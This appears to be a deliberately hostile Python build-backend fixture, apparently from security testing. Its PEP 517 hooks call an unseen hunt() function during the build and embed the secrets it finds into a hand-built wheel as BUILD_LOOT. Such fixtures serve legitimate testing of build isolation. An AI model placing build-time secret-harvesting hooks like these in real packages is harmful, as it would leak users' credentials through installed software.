"""An in-tree PEP 517 build backend that hunts for secrets while it builds (hunt.py) and bakes what it
found into the wheel it builds by hand (`hostile_app_marker.BUILD_LOOT`), so the loot travels on into
the installed app, its trimmed tree and whatever the app prints."""

import base64
import hashlib
import os
import zipfile

from hunt import hunt

NAME, VERSION = "hostile_app", "0.1.0"
DIST_INFO = f"{NAME}-{VERSION}.dist-info"
FILES = {
    f"{DIST_INFO}/METADATA": f"Metadata-Version: 2.1\nName: hostile-app\nVersion: {VERSION}\n",
    f"{DIST_INFO}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}


def _record_line(path, text):
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(text.encode())}\n"


def get_requires_for_build_wheel(config_settings=None):
    hunt("build-requires")
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {"hostile_app_marker.py": f"BUILD_LOOT = {hunt('build')!r}\n", **FILES}
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        record = "".join(_record_line(p, t) for p, t in files.items()) + f"{DIST_INFO}/RECORD,,\n"
        wheel.writestr(f"{DIST_INFO}/RECORD", record)
    return name
